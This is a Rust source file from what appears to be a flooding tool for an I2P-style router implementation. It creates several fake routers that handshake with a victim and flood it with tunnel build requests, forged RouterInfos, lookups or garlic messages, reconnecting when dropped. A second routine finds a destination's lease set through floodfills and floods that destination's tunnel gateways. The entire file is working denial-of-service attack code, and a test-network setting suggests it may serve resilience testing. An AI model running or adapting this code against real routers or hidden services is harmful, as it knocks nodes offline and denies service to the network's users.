// SPDX-License-Identifier: MIT
//! Floods by routers that have shaken hands: the victim knows who sends, and that is all it knows.

use crate::craft::{self, Victim};
use crate::pace::{Pace, Report};
use crate::{Args, Kind};
use anyhow::{Context, Result, bail};
use samovar::base::{Clock, Queue, QueueReceiver, Rng, Tasks, TcpNet, watch};
use samovar::transport::{
    Class, FromPeer, Parts, PeerSender, TransportConfig, TransportEvent, TransportHandle, start,
};
use samovar::wire::{
    DatabaseStore, Destination, Hash, I2np, I2npKind, LeaseSet2, LookupKind, RouterHash, RouterInfo,
    StoreData, TunnelId, Wire,
};
use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;
use tokio::time::timeout;

/// Bytes that may wait for the victim before it counts as full.
const WAITING_MAX: usize = 512 * 1024;
const LINK: Duration = Duration::from_secs(20);

/// One router that we pretend to be.
pub struct Attacker {
    pub hash: RouterHash,
    handle: TransportHandle,
    events: QueueReceiver<TransportEvent>,
    plane: QueueReceiver<FromPeer>,
    links: BTreeMap<RouterHash, PeerSender>,
    tasks: Tasks,
    clock: Clock,
    /// Messages received, by type.
    received: BTreeMap<u8, u64>,
    /// Links lost.
    lost: u64,
    _info: watch::Sender<Arc<RouterInfo>>,
}

impl Attacker {
    /// A new router with an address of its own.
    pub async fn new(args: &Args, rng: &mut Rng, n: usize) -> Result<Self> {
        let (clock, at) = (Clock::system(), args.attacker(n));
        let us = craft::identity(rng, clock.now(), args.netid, at, &args.caps);
        let (tasks, hash) = (Tasks::new(), us.info.hash());
        let (info, info_rx) = watch::channel(us.info);
        let (to_plane, plane) = Queue::bounded("plane", 256);
        let (events_tx, events) = Queue::bounded("events", 256);
        let config = TransportConfig {
            net_id: args.netid,
            bind: vec![at],
            published: vec![at],
            bind_outgoing: true,
            test_network: true,
            ..TransportConfig::default()
        };
        let parts: Parts<FromPeer> = Parts {
            config,
            keys: us.keys,
            info: info_rx,
            net: Arc::new(TcpNet),
            clock: clock.clone(),
            rng: rng.fork("attacker"),
            tasks: tasks.clone(),
            to_plane,
            events: events_tx,
            metrics: Arc::default(),
        };
        let (handle, _) = start(parts).await.with_context(|| format!("listening at {at}"))?;
        let (links, received) = (BTreeMap::new(), BTreeMap::new());
        Ok(Self { hash, handle, events, plane, links, tasks, clock, received, lost: 0, _info: info })
    }

    /// Links to a router.
    pub async fn link(&mut self, to: &Arc<RouterInfo>) -> Result<()> {
        let hash = to.hash();
        self.handle.dial(to.clone(), Vec::new(), Class::Control);
        let linked = timeout(LINK, async {
            while !self.links.contains_key(&hash) {
                tokio::select! { biased;
                    Some(event) = self.events.recv() => {
                        if let TransportEvent::DialFailed { reason, .. } = &event {
                            bail!("no link to {hash}: {reason}");
                        }
                        self.event(event);
                    }
                    Some(_) = self.plane.recv() => {}
                }
            }
            Ok(())
        });
        linked.await.with_context(|| format!("no link to {hash} in time"))?
    }

    fn event(&mut self, event: TransportEvent) {
        match event {
            TransportEvent::Up { peer, sender, .. } => {
                self.links.insert(peer, sender);
            }
            TransportEvent::Down { peer, .. } => {
                self.links.remove(&peer);
                self.lost += 1;
            }
            _ => {}
        }
    }

    /// Takes in what has come; messages other than counted ones are dropped.
    fn listen(&mut self) {
        while let Some(event) = self.events.try_recv() {
            self.event(event);
        }
        while let Some(batch) = self.plane.try_recv() {
            for message in batch.messages {
                *self.received.entry(message.kind.0).or_default() += 1;
            }
        }
    }

    /// Sends unless the peer is behind with its reading, or gone. False: not sent.
    fn send(&self, to: &RouterHash, message: I2np) -> bool {
        match self.links.get(to) {
            Some(link) if link.bytes() < WAITING_MAX => {
                link.push(self.clock.now(), vec![message], Class::Own) == 0
            }
            _ => false,
        }
    }

    /// Ends everything, orderly if that is quick.
    pub async fn stop(self) {
        self.tasks.stop();
        let _ = timeout(Duration::from_secs(2), self.tasks.finished()).await;
    }

    /// Asks a floodfill for a lease set.
    async fn lease_set(
        &mut self,
        rng: &mut Rng,
        of: &Destination,
        floodfill: RouterHash,
    ) -> Option<LeaseSet2> {
        let key = Hash::from(of.hash());
        let question = craft::lookup(rng, self.clock.now(), key, LookupKind::LeaseSet, self.hash);
        self.send(&floodfill, question);
        let answer = async {
            while let Some(batch) = self.plane.recv().await {
                for message in batch.messages.iter().filter(|m| m.kind == I2npKind::DATABASE_STORE) {
                    let store = DatabaseStore::from_bytes(&message.body).ok()?;
                    if let (true, StoreData::LeaseSet2(raw)) = (store.key == key, store.data) {
                        return LeaseSet2::from_bytes(&raw).ok();
                    }
                }
            }
            None
        };
        timeout(Duration::from_secs(3), answer).await.ok().flatten()
    }
}

async fn attackers(args: &Args, rng: &mut Rng, to: &Arc<RouterInfo>) -> Result<Vec<Attacker>> {
    let mut all = Vec::new();
    for n in 0..args.attackers.max(1) {
        let mut attacker = Attacker::new(args, rng, n).await?;
        attacker.link(to).await?;
        all.push(attacker);
    }
    Ok(all)
}

/// What is sent, made in advance where making it is slow.
struct Ammunition {
    kind: Kind,
    victim: Victim,
    records: Vec<Vec<u8>>,
    infos: Vec<(RouterHash, Vec<u8>)>,
    next: usize,
}

impl Ammunition {
    fn new(args: &Args, rng: &mut Rng, clock: &Clock, victim: Victim) -> Result<Self> {
        let (mut records, mut infos) = (Vec::new(), Vec::new());
        if args.kind == Kind::Builds {
            let peers = match &args.peers {
                Some(dir) => craft::load_infos(dir)?.iter().map(|i| i.hash()).collect(),
                None => vec![RouterHash(rng.bytes())],
            };
            let peers: Vec<_> = peers.into_iter().filter(|p| *p != victim.hash).collect();
            for _ in 0..args.prepared {
                records.extend(craft::build_record(rng, clock.now(), &victim, &peers));
            }
        }
        if args.kind == Kind::Infos {
            for n in 0..args.prepared {
                let caps = if n.is_multiple_of(4) { "XfR" } else { "XR" };
                infos.push(craft::fake_info(rng, clock.now(), args.netid, caps));
            }
        }
        Ok(Self { kind: args.kind, victim, records, infos, next: 0 })
    }

    fn make(&mut self, rng: &mut Rng, from: &Attacker) -> I2np {
        let now = from.clock.now();
        self.next += 1;
        let n = self.next;
        match self.kind {
            Kind::Builds => {
                let record = n.is_multiple_of(2).then(|| self.records.get(n / 2 % self.records.len().max(1)));
                craft::build(rng, now, &self.victim, record.flatten().map(Vec::as_slice))
            }
            Kind::Infos => match self.infos.get(n % self.infos.len().max(1)) {
                Some((hash, raw)) => craft::store(rng, now, *hash, raw, from.hash, n.is_multiple_of(8)),
                None => craft::garlic(rng, now, 100),
            },
            Kind::Lookups => {
                let kind = [LookupKind::Any, LookupKind::LeaseSet, LookupKind::RouterInfo][n % 3];
                let key = Hash(rng.bytes());
                craft::lookup(rng, now, key, kind, from.hash)
            }
            _ => {
                let len = 120 + rng.index(400);
                craft::garlic(rng, now, len)
            }
        }
    }
}

/// Build requests, RouterInfos, lookups or garlic, from several routers to the victim.
pub async fn flood(args: &Args) -> Result<Report> {
    let (victim, mut rng) = (args.victim()?, Rng::from_os()?);
    let mut ammunition = Ammunition::new(args, &mut rng, &Clock::system(), victim.clone())?;
    let mut all = attackers(args, &mut rng, &victim.info).await?;
    args.ready()?;
    let mut pace = Pace::new(args.rate, args.seconds);
    let (mut sent, mut held, mut turn) = (0, 0, 0);
    while let Some(due) = pace.due().await {
        all.iter_mut().for_each(Attacker::listen);
        let due = if args.kind == Kind::Sybils { 0 } else { due };
        for _ in 0..due {
            turn += 1;
            let Some(from) = all.get(turn % args.attackers.max(1)) else { break };
            let message = ammunition.make(&mut rng, from);
            if from.send(&victim.hash, message) { sent += 1 } else { held += 1 }
        }
        redial(&mut all, &victim);
        tokio::task::yield_now().await;
    }
    let mut report = totals(&all, sent, held, pace.elapsed());
    report.count("links_at_end", all.iter().filter(|a| a.links.contains_key(&victim.hash)).count() as u64);
    stop(all).await;
    Ok(report)
}

/// Whoever was thrown out comes back.
fn redial(all: &mut [Attacker], victim: &Victim) {
    for attacker in all.iter_mut().filter(|a| a.lost > 0 && !a.links.contains_key(&victim.hash)) {
        attacker.handle.dial(victim.info.clone(), Vec::new(), Class::Control);
    }
}

fn totals(all: &[Attacker], sent: u64, held: u64, seconds: f64) -> Report {
    let mut report = Report::default();
    report.count("sent", sent);
    report.add("per_second", sent as f64 / seconds);
    report.count("not_taken", held);
    report.count("links_lost", all.iter().map(|a| a.lost).sum());
    let mut kinds = BTreeMap::new();
    for (kind, n) in all.iter().flat_map(|a| &a.received) {
        *kinds.entry(*kind).or_insert(0u64) += n;
    }
    for (kind, n) in kinds {
        report.count(format!("received_{kind}"), n);
    }
    report
}

async fn stop(all: Vec<Attacker>) {
    for attacker in &all {
        attacker.tasks.stop();
    }
    for attacker in all {
        attacker.stop().await;
    }
}

/// Garlic for a destination, to the gateways that its lease set names.
pub async fn leases(args: &Args) -> Result<Report> {
    let mut rng = Rng::from_os()?;
    let text = args.destination.as_deref().context("--destination is missing")?;
    let Ok(destination) = Destination::from_base64(text) else { bail!("--destination is none") };
    let infos = craft::load_infos(args.peers.as_deref().context("--peers is missing")?)?;
    let mut all = Vec::new();
    for n in 0..args.attackers.max(1) {
        all.push(Attacker::new(args, &mut rng, n).await?);
    }
    let first = all.first_mut().context("attackers")?;
    let mut found = None;
    for floodfill in infos.iter().filter(|i| i.caps().floodfill) {
        if first.link(floodfill).await.is_ok() {
            found = first.lease_set(&mut rng, &destination, floodfill.hash()).await;
        }
        if found.is_some() {
            break;
        }
    }
    let lease_set = found.context("no floodfill has the lease set")?;
    let gateways: Vec<(Arc<RouterInfo>, TunnelId)> = lease_set
        .leases()
        .iter()
        .filter_map(|l| Some((infos.iter().find(|i| i.hash() == l.gateway)?.clone(), l.tunnel)))
        .collect();
    if gateways.is_empty() {
        bail!("none of the gateways is known");
    }
    for attacker in &mut all {
        for (gateway, _) in &gateways {
            if !attacker.links.contains_key(&gateway.hash()) {
                attacker.link(gateway).await?;
            }
        }
    }
    args.ready()?;
    let mut pace = Pace::new(args.rate, args.seconds);
    let (mut sent, mut held, mut turn) = (0, 0, 0);
    while let Some(due) = pace.due().await {
        all.iter_mut().for_each(Attacker::listen);
        for _ in 0..due {
            turn += 1;
            let (Some(from), Some((gateway, tunnel))) =
                (all.get(turn % all.len()), gateways.get(turn % gateways.len()))
            else {
                break;
            };
            let now = from.clock.now();
            let len = 120 + rng.index(400);
            let inner = craft::garlic(&mut rng, now, len);
            let message = craft::through_gateway(&mut rng, now, *tunnel, &inner);
            if from.send(&gateway.hash(), message) { sent += 1 } else { held += 1 }
        }
        tokio::task::yield_now().await;
    }
    let mut report = totals(&all, sent, held, pace.elapsed());
    report.count("gateways", gateways.len() as u64);
    stop(all).await;
    Ok(report)
}
